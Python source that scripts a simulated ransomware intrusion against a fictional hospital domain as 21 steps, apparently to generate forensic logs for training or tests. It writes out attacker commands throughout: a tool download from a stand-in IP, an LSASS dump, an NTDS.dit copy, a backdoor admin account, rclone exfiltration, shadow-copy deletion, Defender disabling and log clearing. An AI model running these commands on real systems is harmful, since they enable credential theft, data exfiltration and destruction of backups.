"""The incident as data: the 21 steps of the DIMS ransomware case, in the order they happened.

Times are IST wall-clock (``at(day, "hh:mm:ss", s=, ms=)``; the logs show UTC, and LIS-APP01's
clock adds its skew). Each step lists its actions (see ``actions``) and its evidence: how its
records can be found again, written to ``expected_steps.json`` for the tests and the README.
``SCENE`` is the whole play: the steps, and the asides between them that belong to no step.
"""

from __future__ import annotations

from datetime import datetime, timedelta

from .actions import (
    NEW_LOGON_ID,
    Aside,
    AuditExec,
    AuditUser,
    AuthLog,
    Bind,
    ClearEventLogs,
    Connect,
    Encrypt,
    Event,
    ExplicitCredentials,
    Firewall,
    Journal,
    Logon,
    LogTruncated,
    NatRdp,
    PasswordSpray,
    PowerShellScript,
    PsExec,
    RdpLogoff,
    RdpLogon,
    Ref,
    RemoteTask,
    Repeat,
    Run,
    ServiceTicket,
    ShareAccess,
    Shell,
    SshBruteForce,
    Step,
    Sysmon,
    WriteFile,
)
from .recorder import Proc, sys_proc
from .world import (
    ATTACKER_IP,
    BKP01,
    CH,
    DB01,
    DB02,
    DC01,
    DIMS_PUBLIC_IP,
    DOMAIN_SID,
    ES01,
    EXFIL_IP,
    IP,
    LIS,
    LOCK_EXT,
    NETBIOS,
    NOTE_NAME,
    SPRAY_ACCOUNTS,
    SPRAY_GUESSES,
    STANDIN_HASHES,
    STANDIN_SHA256,
    TARGETS,
    TOOL_IP,
    TS01,
    WIN_HOSTS,
    fake_hashes,
    ist,
    sid,
    sysmon_hashes,
)

HELPDESK = f"{NETBIOS}\\helpdesk01"  # the sprayed account the attacker enters with
ADMIN = f"{NETBIOS}\\adm.sharma"  # the domain admin whose credentials come out of LSASS
SYSTEM = "NT AUTHORITY\\SYSTEM"
W = "C:\\Windows\\System32\\"
PSEXEC_HASHES = fake_hashes("PsExec64.exe")
ENCRYPTOR = "C:\\Windows\\Temp\\svchosts.exe"
ENCRYPTOR_ARGS = "-p C:\\,D:\\ -n README_TO_DECRYPT.txt"
TASK = "\\Microsoft\\Windows\\EdgeUpdateCore"
# folders the encryptor walks on each server
ENCRYPTED_FOLDERS = {
    DB01: ("D:\\MSSQL\\DATA", "D:\\MSSQL\\Backup", "C:\\Users\\Public\\Documents", "D:\\Reports"),
    DB02: ("D:\\MSSQL\\DATA", "D:\\Backup", "C:\\Users\\Public\\Documents", "D:\\Exports"),
    LIS: ("D:\\LIS\\Results", "D:\\LIS\\Instruments", "C:\\Users\\Public\\Documents", "D:\\MSSQL\\DATA"),
}
# when the attacker clears each Windows host's logs
LOGS_CLEARED = {
    TS01: ist(23, "06:38:10"),
    DC01: ist(23, "06:38:55"),
    DB01: ist(23, "06:39:30"),
    DB02: ist(23, "06:40:05"),
    LIS: ist(23, "06:40:40"),
}
SEC_SYSTEM = {"task": 12544, "keywords": 0x8020000000000000}


def at(day: int, hms: str, *, s: float = 0, ms: int = 0, us: int = 0, micro: int = 0) -> datetime:
    """A November 2022 IST time, plus an offset."""
    return ist(day, hms, micro) + timedelta(seconds=s, milliseconds=ms, microseconds=us)


def as_root(when: datetime, argv: tuple[str, ...], *, exe: str, creates: str | None = None) -> AuditExec:
    """A command of the attacker's root shell on LNX-ES01 (esadmin's ``sudo /bin/bash``, pid 2301)."""
    return AuditExec(when, argv, auid=1001, uid=0, exe=exe, cwd="/root", ppid=2301, creates=creates)


def ev(**what: object) -> dict[str, object]:
    """One evidence entry (kept in the order written)."""
    return dict(what)


# --- steps 1-2: the spray and the entry ---------------------------------------------------------

STEP_1 = Step(
    1, "Password spray against WIN-TS01 over RDP/NTLM", ("T1110.003",),
    actions=(
        PasswordSpray(TS01, ATTACKER_IP, SPRAY_ACCOUNTS, SPRAY_GUESSES, start=at(22, "21:02:07"), attempts=180,
                      every=4, firewall_every=15),
    ),
    evidence=(
        ev(source="evtx", host=TS01, channel="Security", event_id=4625, field="IpAddress", equals=ATTACKER_IP,
           min_count=180),
        ev(source="firewall", host="FW-EDGE01", contains=f"srcip={ATTACKER_IP}", also="dstport=3389"),
    ),
)  # fmt: skip

STEP_2 = Step(
    2, "RDP logon as DIMS\\helpdesk01 from 203.0.113.45", ("T1133", "T1078.002"),
    actions=(
        NatRdp(at(22, "21:16:31"), sent=48_211_003, received=310_552_118, duration=5400),
        RdpLogon(TS01, at(22, "21:16:31"), "helpdesk01", ATTACKER_IP, admin=True, session=3, bind="explorer"),
    ),
    evidence=(
        ev(source="evtx", host=TS01, channel=CH["rcm"], event_id=1149, contains=ATTACKER_IP),
        ev(source="evtx", host=TS01, channel="Security", event_id=4624, field="LogonType", equals="10",
           also=ATTACKER_IP),
        ev(source="evtx", host=TS01, channel=CH["lsm"], event_id=21, contains="helpdesk01"),
    ),
)  # fmt: skip

# --- steps 3-5: discovery, the toolkit, the LSASS dump on WIN-TS01 ----------------------------

STEP_3 = Step(
    3, "Discovery: whoami, net group, nltest", ("T1033", "T1087.002", "T1018"),
    actions=(
        Shell(TS01, at(22, "21:19:02"), HELPDESK, "explorer", cwd="C:\\Users\\helpdesk01\\", commands=(
            (20, W + "whoami.exe", "whoami  /all"),
            (41, W + "net.exe", 'net  group "Domain Admins" /domain'),
            (63, W + "nltest.exe", "nltest  /dclist:dims.local"),
        )),
    ),
    evidence=(
        ev(source="evtx", host=TS01, channel=CH["sysmon"], event_id=1, field="CommandLine", contains="whoami"),
        ev(source="evtx", host=TS01, channel=CH["sysmon"], event_id=1, field="CommandLine",
           contains='group "Domain Admins" /domain'),
        ev(source="evtx", host=TS01, channel="Security", event_id=4688, field="CommandLine",
           contains="nltest  /dclist:dims.local"),
    ),
)  # fmt: skip

_PS = W + "WindowsPowerShell\\v1.0\\powershell.exe"
STEP_4 = Step(
    4, "Tool download with PowerShell from 198.51.100.23", ("T1059.001", "T1105"),
    actions=(
        Run(TS01, at(22, "21:24:10"), _PS, f'"{_PS}" ', HELPDESK, "explorer", bind="ps",
            cwd="C:\\Users\\helpdesk01\\"),
        PowerShellScript(TS01, at(22, "21:24:10", s=14), "ps",
                         "iwr http://198.51.100.23/t.zip -OutFile C:\\PerfLogs\\t.zip", "helpdesk01"),
        PowerShellScript(TS01, at(22, "21:24:10", s=40), "ps",
                         "Expand-Archive C:\\PerfLogs\\t.zip -DestinationPath C:\\PerfLogs\\ -Force", "helpdesk01"),
        Connect(TS01, at(22, "21:24:10", s=15), "ps", TOOL_IP, 80),
        WriteFile(TS01, at(22, "21:24:10", s=16), "ps", "C:\\PerfLogs\\t.zip"),
        *(WriteFile(TS01, at(22, "21:24:10", s=41 + i), "ps", f"C:\\PerfLogs\\{name}")
          for i, name in enumerate(("PsExec64.exe", "svchosts.exe", "rclone.exe"))),
        Firewall(at(22, "21:24:10", s=17),
                 f'type="traffic" subtype="forward" level="notice" action="accept" policyid=3 policyname="LAN-OUT-WEB" '
                 f'srcip={IP[TS01]} srcport=51230 srcintf="dmz" dstip={TOOL_IP} dstport=80 dstintf="wan1" '
                 f'transip={DIMS_PUBLIC_IP} transport=51230 proto=6 service="HTTP" duration=3 sentbyte=1877 '
                 f'rcvdbyte=9120447 url="/t.zip"'),
    ),
    evidence=(
        ev(source="evtx", host=TS01, channel=CH["ps"], event_id=4104, field="ScriptBlockText",
           contains="iwr http://198.51.100.23/t.zip"),
        ev(source="evtx", host=TS01, channel=CH["sysmon"], event_id=3, field="DestinationIp", equals=TOOL_IP),
        ev(source="evtx", host=TS01, channel=CH["sysmon"], event_id=11, field="TargetFilename",
           contains="C:\\PerfLogs\\rclone.exe"),
    ),
)  # fmt: skip

STEP_5 = Step(
    5, "LSASS dump with comsvcs.dll MiniDump", ("T1003.001",),
    actions=(
        Run(TS01, at(22, "21:31:05"), W + "rundll32.exe",
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 644 C:\\PerfLogs\\ls.dmp full", HELPDESK, "ps",
            bind="rundll32", cwd="C:\\PerfLogs\\"),
        Sysmon(TS01, 10, at(22, "21:31:05", ms=220), {
            "SourceProcessGUID": Ref("rundll32", "guid"),
            "SourceProcessId": Ref("rundll32", "pid"),
            "SourceThreadId": "6112",
            "SourceImage": Ref("rundll32", "image"),
            "TargetProcessGUID": "{4f1a0000-0000-0000-0000-0000000a0644}",
            "TargetProcessId": "644",
            "TargetImage": "C:\\Windows\\system32\\lsass.exe",
            "GrantedAccess": "0x1FFFFF",
            "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
            "C:\\Windows\\System32\\comsvcs.dll+3a1d5|C:\\Windows\\System32\\rundll32.exe+3bc4",
            "SourceUser": HELPDESK,
            "TargetUser": SYSTEM,
        }),
        WriteFile(TS01, at(22, "21:31:05", s=3), "rundll32", "C:\\PerfLogs\\ls.dmp"),
    ),
    evidence=(
        ev(source="evtx", host=TS01, channel=CH["sysmon"], event_id=1, field="CommandLine",
           contains="comsvcs.dll, MiniDump"),
        ev(source="evtx", host=TS01, channel=CH["sysmon"], event_id=10, field="TargetImage", contains="lsass.exe",
           also="0x1FFFFF"),
    ),
)  # fmt: skip

# --- steps 6-8: DC01, NTDS.dit, the backdoor admin ---------------------------------------------

_T6 = "21:47:12"
STEP_6 = Step(
    6, "RDP to DC01 as DIMS\\adm.sharma", ("T1021.001",),
    actions=(
        Run(TS01, at(22, _T6), W + "mstsc.exe", '"C:\\Windows\\system32\\mstsc.exe" /v:DC01', HELPDESK, "explorer",
            bind="mstsc", integrity="Medium"),
        ExplicitCredentials(TS01, at(22, _T6, s=9), "helpdesk01", "adm.sharma", "DC01.dims.local", IP[DC01],
                            W + "mstsc.exe"),
        Connect(TS01, at(22, _T6, s=9), "mstsc", IP[DC01], 3389),
        ServiceTicket(at(22, _T6, s=9, ms=100), "adm.sharma", "TERMSRV/DC01.dims.local", IP[TS01]),
        # NLA: the network logon follows the 4648 within a fraction of a second; the session logon
        # (type 10) comes seconds later, once the desktop is up
        Logon(DC01, at(22, _T6, s=9, ms=200), "adm.sharma", 3, IP[TS01], admin=True),
        RdpLogon(DC01, at(22, _T6, s=11, ms=200), "adm.sharma", IP[TS01], admin=True, session=2, bind="dc_explorer"),
    ),
    evidence=(
        ev(source="evtx", host=TS01, channel="Security", event_id=4648, field="TargetServerName", contains="DC01"),
        ev(source="evtx", host=DC01, channel="Security", event_id=4624, field="IpAddress", equals=IP[TS01],
           also="LogonType 10"),
        ev(source="evtx", host=DC01, channel=CH["rcm"], event_id=1149, contains=IP[TS01]),
        ev(source="evtx", host=DC01, channel="Security", event_id=4672, contains="adm.sharma"),
    ),
)  # fmt: skip

# the tools reach DC01 over the RDP clipboard: before step 7, not part of it
CLIPBOARD = Aside(
    (
        WriteFile(DC01, at(22, "21:52:30"), "dc_explorer", "C:\\PerfLogs\\PsExec64.exe"),
        WriteFile(DC01, at(22, "21:52:32"), "dc_explorer", "C:\\PerfLogs\\svchosts.exe"),
    )
)

_ESENT = {"qualifiers": 0, "task": 1, "keywords": 0x80000000000000}
STEP_7 = Step(
    7, "NTDS.dit copy via ntdsutil IFM", ("T1003.003",),
    actions=(
        Run(DC01, at(22, "21:55:03"), W + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe" ', ADMIN, "dc_explorer",
            bind="dc_shell"),
        Run(DC01, at(22, "21:55:03", s=25), W + "ntdsutil.exe",
            'ntdsutil.exe  "ac i ntds" ifm "create full C:\\PerfLogs\\ifm" q q', ADMIN, "dc_shell"),
        Event(DC01, "app", 325, at(22, "21:55:03", s=27), provider="esent", system=_ESENT, data={
            "Data": "The database engine created a new database (C:\\PerfLogs\\ifm\\Active Directory\\ntds.dit)."}),
        Event(DC01, "app", 327, at(22, "21:55:03", s=58), provider="esent", system=_ESENT, data={
            "Data": "The database engine detached a database (C:\\PerfLogs\\ifm\\Active Directory\\ntds.dit)."}),
    ),
    evidence=(
        ev(source="evtx", host=DC01, channel=CH["sysmon"], event_id=1, field="CommandLine",
           contains='ifm "create full C:\\PerfLogs\\ifm"'),
        ev(source="evtx", host=DC01, channel="Security", event_id=4688, field="CommandLine", contains="ntdsutil"),
    ),
)  # fmt: skip

_BY_ADMIN = {"SubjectUserSid": sid("adm.sharma"), "SubjectUserName": "adm.sharma", "SubjectDomainName": NETBIOS,
             "SubjectLogonId": Ref("admin_logon")}  # fmt: skip
_NEW_USER = {"TargetUserName": "dims.svc", "TargetDomainName": NETBIOS, "TargetSid": sid("dims.svc")}
STEP_8 = Step(
    8, "Backdoor domain admin dims.svc", ("T1136.002", "T1098"),
    actions=(
        Run(DC01, at(22, "22:03:11"), W + "net.exe", "net  user dims.svc Winter@2022! /add /domain", ADMIN, "dc_shell"),
        Bind("admin_logon", NEW_LOGON_ID),
        Event(DC01, "sec", 4720, at(22, "22:03:12"), system={"task": 13824, "keywords": 0x8020000000000000}, data={
            **_NEW_USER, **_BY_ADMIN, "PrivilegeList": "-", "SamAccountName": "dims.svc", "DisplayName": "%%1793",
            "UserPrincipalName": "-", "HomeDirectory": "%%1793", "UserAccountControl": "%%2080 %%2082 %%2084",
            "PrimaryGroupId": "513"}),
        Event(DC01, "sec", 4722, at(22, "22:03:12", ms=20), system={"task": 13824, "keywords": 0x8020000000000000},
              data={**_NEW_USER, **_BY_ADMIN}),
        Run(DC01, at(22, "22:03:41"), W + "net.exe", 'net  group "Domain Admins" dims.svc /add /domain', ADMIN,
            "dc_shell"),
        Event(DC01, "sec", 4728, at(22, "22:03:42"), system={"task": 13826, "keywords": 0x8020000000000000}, data={
            "MemberName": "CN=dims.svc,CN=Users,DC=dims,DC=local", "MemberSid": sid("dims.svc"),
            "TargetUserName": "Domain Admins", "TargetDomainName": NETBIOS, "TargetSid": f"{DOMAIN_SID}-512",
            **_BY_ADMIN, "PrivilegeList": "-"}),
    ),
    evidence=(
        ev(source="evtx", host=DC01, channel="Security", event_id=4720, field="TargetUserName", equals="dims.svc"),
        ev(source="evtx", host=DC01, channel="Security", event_id=4728, field="MemberName", contains="dims.svc",
           also="Domain Admins; SubjectUserName adm.sharma"),
    ),
)  # fmt: skip

# --- step 9: exfiltration -----------------------------------------------------------------------

_T9 = at(22, "22:40:05")
_EXFIL_START, _EXFIL_END = _T9 + timedelta(seconds=22), at(22, "23:05:40")
_EXFIL_FLOW = (
    f'type="traffic" subtype="forward" level="notice" action="{{action}}" policyid=4 '
    f'policyname="LAN-OUT-ANY" srcip={IP[TS01]} srcport=52044 srcintf="dmz" dstip={EXFIL_IP} dstport=22 '
    f'dstintf="wan1" transip={DIMS_PUBLIC_IP} transport=52044 proto=6 service="SSH" {{tail}}'
)
STEP_9 = Step(
    9, "Exfiltration of the DB backup share with rclone to 192.0.2.77", ("T1560.001", "T1048"),
    actions=(
        Run(TS01, _T9, W + "cmd.exe", "runas /netonly /user:DIMS\\adm.sharma cmd.exe", ADMIN, "explorer",
            bind="runas"),
        Run(TS01, _T9 + timedelta(seconds=20), "C:\\PerfLogs\\rclone.exe",
            "C:\\PerfLogs\\rclone.exe copy \\\\EHOSP-DB02\\Backup sftp:/srv/drop/dims --sftp-host 192.0.2.77 "
            "--sftp-user u7 --transfers 8 -q", ADMIN, "runas", bind="rclone", hashes=fake_hashes("rclone.exe"),
            cwd="C:\\PerfLogs\\"),
        Logon(DB02, _T9 + timedelta(seconds=21), "adm.sharma", 3, IP[TS01], admin=True),
        Event(DB02, "sec", 5140, _T9 + timedelta(seconds=21, milliseconds=300),
              system={"task": 12808, "keywords": 0x8020000000000000}, data={
                  "SubjectUserSid": sid("adm.sharma"), "SubjectUserName": "adm.sharma", "SubjectDomainName": NETBIOS,
                  "SubjectLogonId": NEW_LOGON_ID, "ObjectType": "File", "IpAddress": IP[TS01], "IpPort": "50311",
                  "ShareName": "\\\\*\\Backup", "ShareLocalPath": "\\??\\D:\\Backup", "AccessMask": "0x1",
                  "AccessList": "%%4416\n\t\t\t\t"}),
        Repeat(26, timedelta(seconds=58), Connect(TS01, _EXFIL_START, "rclone", EXFIL_IP, 22)),
        Firewall(_EXFIL_START, _EXFIL_FLOW.format(action="start", tail="duration=0 sentbyte=0 rcvdbyte=0")),
        Firewall(_EXFIL_END, _EXFIL_FLOW.format(
            action="close",
            tail=f"duration={int((_EXFIL_END - _EXFIL_START).total_seconds())} sentbyte=4402341478 rcvdbyte=18220417")),
    ),
    evidence=(
        ev(source="evtx", host=TS01, channel=CH["sysmon"], event_id=1, field="CommandLine",
           contains="rclone.exe copy \\\\EHOSP-DB02\\Backup sftp:"),
        ev(source="evtx", host=TS01, channel=CH["sysmon"], event_id=3, field="DestinationIp", equals=EXFIL_IP,
           min_count=26),
        ev(source="firewall", host="FW-EDGE01", contains="sentbyte=4402341478", also=f"dstip={EXFIL_IP}"),
    ),
)  # fmt: skip

# the attacker's RDP session on WIN-TS01 ends
LOGOFF = Aside((RdpLogoff(TS01, at(22, "23:12:40"), "helpdesk01", ATTACKER_IP, 3),))

# --- steps 10-12: Linux -------------------------------------------------------------------------

_T10 = at(23, "02:10:05")
_SSH_LOGIN = (
    f"pid=2211 uid=0 auid=4294967295 ses=4294967295 subj=unconfined "
    f'msg=\'op=PAM:authentication grantors=pam_permit,pam_cap acct="esadmin" exe="/usr/sbin/sshd" '
    f"hostname={IP[TS01]} addr={IP[TS01]} terminal=ssh res=success'"
)
STEP_10 = Step(
    10, "SSH to LNX-ES01 with a reused password, sudo to root", ("T1021.004", "T1078.003"),
    actions=(
        Run(TS01, at(23, "02:09:58"), W + "OpenSSH\\ssh.exe", "ssh.exe  esadmin@10.10.7.31", HELPDESK, None,
            bind="ssh", integrity="Medium"),
        Connect(TS01, at(23, "02:09:59"), "ssh", IP[ES01], 22, src_port=51544),
        AuthLog(ES01, _T10, "sshd[2211]", f"Accepted password for esadmin from {IP[TS01]} port 51544 ssh2"),
        AuthLog(ES01, _T10 + timedelta(milliseconds=30), "sshd[2211]",
                "pam_unix(sshd:session): session opened for user esadmin(uid=1001) by (uid=0)"),
        AuthLog(ES01, _T10 + timedelta(milliseconds=60), "systemd-logind[802]", "New session 41 of user esadmin."),
        Journal(ES01, _T10 + timedelta(milliseconds=70), "systemd", "Started Session 41 of User esadmin.",
                unit="session-41.scope"),
        AuditUser(_T10, "USER_AUTH", _SSH_LOGIN),
        AuditUser(_T10 + timedelta(milliseconds=80), "USER_LOGIN",
                  "pid=2211 uid=0 auid=1001 ses=41 subj=unconfined "
                  f'msg=\'op=login id=1001 exe="/usr/sbin/sshd" hostname={IP[TS01]} addr={IP[TS01]} '
                  "terminal=/dev/pts/0 res=success'"),
        AuthLog(ES01, _T10 + timedelta(seconds=41), "sudo",
                " esadmin : TTY=pts/0 ; PWD=/home/esadmin ; USER=root ; COMMAND=/bin/bash"),
        AuthLog(ES01, _T10 + timedelta(seconds=41, milliseconds=5), "sudo",
                "pam_unix(sudo:session): session opened for user root(uid=0) by esadmin(uid=1001)"),
        AuditUser(_T10 + timedelta(seconds=41), "USER_CMD",
                  'pid=2290 uid=1001 auid=1001 ses=41 subj=unconfined msg=\'cwd="/home/esadmin" '
                  'cmd=2F62696E2F62617368 exe="/usr/bin/sudo" terminal=pts/0 res=success\''),
    ),
    evidence=(
        ev(source="auth.log", host=ES01, contains=f"Accepted password for esadmin from {IP[TS01]} port 51544",
           file="var/log/auth.log.1"),
        ev(source="auth.log", host=ES01, contains="USER=root ; COMMAND=/bin/bash"),
    ),
)  # fmt: skip

STEP_11 = Step(
    11, "Linux encryptor fetched with curl", ("T1105",),
    actions=(
        as_root(at(23, "02:14:22", micro=118000), ("curl", "-so", "/tmp/.x", f"http://{TOOL_IP}/lx"),
                  exe="/usr/bin/curl"),
        as_root(at(23, "02:14:28", micro=118000), ("chmod", "+x", "/tmp/.x"), exe="/usr/bin/chmod"),
    ),
    evidence=(
        ev(source="audit.log", host=ES01, type="EXECVE", contains=f"http://{TOOL_IP}/lx",
           also="SYSCALL auid=1001 uid=0 shares the serial"),
    ),
)  # fmt: skip

STEP_12 = Step(
    12, "SSH brute force on LNX-BKP01 root fails", ("T1110.001",),
    actions=(
        SshBruteForce(BKP01, IP[ES01], "root", at(23, "02:20:03"), attempts=60, every=6, first_pid=3100,
                      first_port=40112),
        as_root(at(23, "02:20:01"), ("sshpass", "-f", "/tmp/.p", "ssh", "root@10.10.7.40"), exe="/usr/bin/sshpass"),
    ),
    evidence=(
        ev(source="auth.log", host=BKP01, contains=f"Failed password for root from {IP[ES01]}", min_count=60,
           absent="Accepted"),
    ),
)  # fmt: skip

# --- steps 13-18: the servers -------------------------------------------------------------------

# DC01's command shell for the push to the servers, opened just before step 13
DC_SHELL = Aside((
    Run(DC01, at(23, "05:37:40"), W + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe" ', ADMIN, "dc_explorer",
        bind="dc_cmd", cwd="C:\\PerfLogs\\"),
))  # fmt: skip

_DISABLE_AV = 'powershell.exe -nop -c "Set-MpPreference -DisableRealtimeMonitoring $true"'
STEP_13 = Step(
    13, "PsExec from DC01 to the servers, Defender disabled", ("T1569.002", "T1021.002", "T1562.001"),
    actions=tuple(
        a
        for k, host in enumerate(TARGETS)
        for a in (
            PsExec(DC01, host, at(23, "05:38:02", s=k * 9), ADMIN, f"-s -d {_DISABLE_AV}", "dc_cmd", PSEXEC_HASHES,
                   bind=f"psexesvc@{host}"),
            Run(host, at(23, "05:38:04", s=k * 9), _PS, _DISABLE_AV, SYSTEM, f"psexesvc@{host}"),
            Event(host, "def", 5001, at(23, "05:38:06", s=k * 9), provider="def",
                  data={"Product Name": "Microsoft Defender Antivirus", "Product Version": "4.18.2210.6"},
                  system={"keywords": 0x8000000000000000, "process_id": 3140, "thread_id": 5504,
                          "user_id": "S-1-5-18"}),
        )
    ),
    evidence=(
        ev(source="evtx", host=list(TARGETS), channel="Security", event_id=5145, field="RelativeTargetName",
           equals="PSEXESVC.exe", also=f"IpAddress {IP[DC01]}"),
        ev(source="evtx", host=list(TARGETS), channel="System", event_id=7045, field="ServiceName", equals="PSEXESVC"),
        ev(source="evtx", host=list(TARGETS), channel="Security", event_id=4697, field="ServiceName",
           equals="PSEXESVC"),
        ev(source="evtx", host=list(TARGETS), channel=CH["sysmon"], event_id=17, field="PipeName",
           contains="\\PSEXESVC-"),
        ev(source="evtx", host=list(TARGETS), channel=CH["def"], event_id=5001),
    ),
)  # fmt: skip


def _kernel(host: str) -> Proc:
    """The System process: what writes a file that arrives over SMB."""
    return Proc(host, 4, "{4f1a0000-0000-0000-0000-000000000004}", "System", "", SYSTEM)


STEP_14 = Step(
    14, "svchosts.exe copied to the servers over C$", ("T1570", "T1036.005"),
    actions=tuple(
        a
        for k, host in enumerate(TARGETS)
        for a in (
            Run(DC01, at(23, "05:50:04", s=k * 5), W + "cmd.exe",
                f"cmd.exe /c copy C:\\PerfLogs\\svchosts.exe \\\\{host}\\C$\\Windows\\Temp\\", ADMIN, "dc_cmd"),
            ShareAccess(host, at(23, "05:50:04", s=k * 5, ms=500), "adm.sharma", IP[DC01], "C$",
                        "Windows\\Temp\\svchosts.exe"),
            WriteFile(host, at(23, "05:50:04", s=k * 5, ms=600), _kernel(host), ENCRYPTOR),
            Sysmon(host, 29, at(23, "05:50:04", s=k * 5, ms=900), {
                "ProcessGuid": _kernel(host).guid, "ProcessId": "4", "User": SYSTEM, "Image": "System",
                "TargetFilename": ENCRYPTOR, "Hashes": sysmon_hashes(STANDIN_HASHES)}),
        )
    ),
    evidence=(
        ev(source="evtx", host=list(TARGETS), channel="Security", event_id=5145, field="RelativeTargetName",
           equals="Windows\\Temp\\svchosts.exe"),
        ev(source="evtx", host=list(TARGETS), channel=CH["sysmon"], event_id=29, field="Hashes",
           contains=STANDIN_SHA256.upper()),
    ),
)  # fmt: skip

_SCM = {"qualifiers": 16384, "keywords": 0x8080000000000000, "process_id": 684, "thread_id": 2212}
STEP_15 = Step(
    15, "SQL Server stopped and disabled", ("T1489",),
    actions=tuple(
        a
        for k, host in enumerate(TARGETS)
        for a in (
            Run(host, at(23, "06:02:01", s=k * 4), W + "cmd.exe",
                'cmd.exe /c "net stop MSSQLSERVER /y & sc config MSSQLSERVER start= disabled"', SYSTEM,
                f"psexesvc@{host}", bind=f"sqlstop@{host}"),
            Run(host, at(23, "06:02:01", s=k * 4, ms=200), W + "net.exe", "net  stop MSSQLSERVER /y", SYSTEM,
                f"sqlstop@{host}"),
            Event(host, "sys", 7036, at(23, "06:02:07", s=k * 4), provider="scm", system=_SCM,
                  data={"param1": "SQL Server (MSSQLSERVER)", "param2": "stopped", "binary": "4D005300530051004C00"}),
            Run(host, at(23, "06:02:08", s=k * 4), W + "sc.exe", "sc  config MSSQLSERVER start= disabled", SYSTEM,
                f"sqlstop@{host}"),
            Event(host, "sys", 7040, at(23, "06:02:08", s=k * 4, ms=300), provider="scm",
                  system={**_SCM, "user_id": "S-1-5-18"},
                  data={"param1": "SQL Server (MSSQLSERVER)", "param2": "auto start", "param3": "disabled",
                        "param4": "MSSQLSERVER"}),
        )
    ),
    evidence=(
        ev(source="evtx", host=list(TARGETS), channel=CH["sysmon"], event_id=1, field="CommandLine",
           contains="net  stop MSSQLSERVER /y"),
        ev(source="evtx", host=list(TARGETS), channel="System", event_id=7036, contains="stopped"),
        ev(source="evtx", host=list(TARGETS), channel="System", event_id=7040, contains="disabled"),
    ),
)  # fmt: skip

STEP_16 = Step(
    16, "Shadow copies, backup catalog and recovery deleted", ("T1490",),
    actions=tuple(
        Run(host, at(23, "06:05:03", s=k * 4 + dt), image, line, SYSTEM, f"psexesvc@{host}")
        for k, host in enumerate(TARGETS)
        for dt, image, line in (
            (0, W + "vssadmin.exe", "vssadmin  delete shadows /all /quiet"),
            (5, W + "wbem\\WMIC.exe", "wmic  shadowcopy delete"),
            (9, W + "bcdedit.exe", "bcdedit  /set {default} recoveryenabled No"),
            (12, W + "wbadmin.exe", "wbadmin  delete catalog -quiet"),
        )
    ),
    evidence=(
        ev(source="evtx", host=list(TARGETS), channel=CH["sysmon"], event_id=1, field="CommandLine",
           contains="vssadmin  delete shadows /all /quiet"),
        ev(source="evtx", host=list(TARGETS), channel="Security", event_id=4688, field="CommandLine",
           contains="wbadmin  delete catalog -quiet"),
        ev(source="evtx", host=list(TARGETS), channel=CH["sysmon"], event_id=1, field="CommandLine",
           contains="recoveryenabled No"),
    ),
)  # fmt: skip

STEP_17 = Step(
    17, "Remote scheduled task \\Microsoft\\Windows\\EdgeUpdateCore", ("T1053.005",),
    actions=tuple(
        RemoteTask(DC01, host, at(23, "06:08:02", s=k * 6), at(23, "06:10:00", ms=k * 37), ADMIN, "dc_cmd", TASK,
                   ENCRYPTOR, ENCRYPTOR_ARGS, "06:10", bind=f"taskeng@{host}")
        for k, host in enumerate(TARGETS)
    ),
    evidence=(
        ev(source="evtx", host=DC01, channel=CH["sysmon"], event_id=1, field="CommandLine",
           contains="schtasks  /create /s EHOSP-DB01"),
        ev(source="evtx", host=list(TARGETS), channel="Security", event_id=4698, field="TaskName", equals=TASK),
        ev(source="evtx", host=list(TARGETS), channel=CH["task"], event_id=106, contains="EdgeUpdateCore"),
    ),
)  # fmt: skip

STEP_18 = Step(
    18, "Encryption of the SQL and lab servers", ("T1486",),
    actions=tuple(
        Encrypt(host, at(23, "06:10:01", ms=k * 41), ENCRYPTOR, f"{ENCRYPTOR} {ENCRYPTOR_ARGS}", SYSTEM,
                f"taskeng@{host}", STANDIN_HASHES, ENCRYPTED_FOLDERS[host], span=26 * 60)
        for k, host in enumerate(TARGETS)
    ),
    evidence=(
        ev(source="evtx", host=list(TARGETS), channel=CH["sysmon"], event_id=1, field="Hashes",
           contains=STANDIN_SHA256.upper(), also="Image C:\\Windows\\Temp\\svchosts.exe"),
        ev(source="evtx", host=list(TARGETS), channel=CH["sysmon"], event_id=11, field="TargetFilename",
           contains=LOCK_EXT),
        ev(source="evtx", host=list(TARGETS), channel=CH["sysmon"], event_id=11, field="TargetFilename",
           contains=NOTE_NAME),
        ev(source="edr", host=DB01, table="DeviceProcessEvents", field="SHA256", equals=STANDIN_SHA256),
    ),
)  # fmt: skip

# --- steps 19-21: Elasticsearch, the clean-up, the impact ---------------------------------------

_ES = "elasticsearch.service"
STEP_19 = Step(
    19, "Elasticsearch stopped and its indices encrypted", ("T1489", "T1486"),
    actions=(
        as_root(at(23, "06:12:04"), ("systemctl", "stop", "elasticsearch"), exe="/usr/bin/systemctl"),
        Journal(ES01, at(23, "06:12:04", ms=40), "systemd", "Stopping Elasticsearch...", unit=_ES),
        Journal(ES01, at(23, "06:12:07", ms=515), "systemd", "elasticsearch.service: Deactivated successfully.",
                unit=_ES),
        Journal(ES01, at(23, "06:12:07", ms=520), "systemd", "Stopped Elasticsearch.", unit=_ES),
        as_root(at(23, "06:12:24"), ("/tmp/.x", "-p", "/var/lib/elasticsearch"), exe="/tmp/.x",
                  creates="/var/lib/elasticsearch/README_TO_DECRYPT.txt"),
    ),
    evidence=(
        ev(source="journal", host=ES01, field="MESSAGE", equals="Stopped Elasticsearch."),
        ev(source="audit.log", host=ES01, type="EXECVE", contains="/tmp/.x -p /var/lib/elasticsearch",
           note="a0..a2 quoted; proctitle hex"),
        ev(source="audit.log", host=ES01, type="PATH", contains="README_TO_DECRYPT.txt", also="nametype=CREATE"),
    ),
)  # fmt: skip

_CLEARERS = {TS01: "explorer", DC01: "dc_explorer"}  # where the attacker sits at a desktop; elsewhere SYSTEM
STEP_20 = Step(
    20, "Event logs cleared, auth.log truncated, history cleared", ("T1070.001", "T1070.003"),
    actions=(
        *(
            ClearEventLogs(host, when, ADMIN, _CLEARERS[host], ("adm.sharma", NETBIOS), sid("adm.sharma"))
            if host in _CLEARERS
            else ClearEventLogs(host, when, SYSTEM, sys_proc(host), (f"{host}$", NETBIOS), "S-1-5-18")
            for host, when in LOGS_CLEARED.items()
        ),
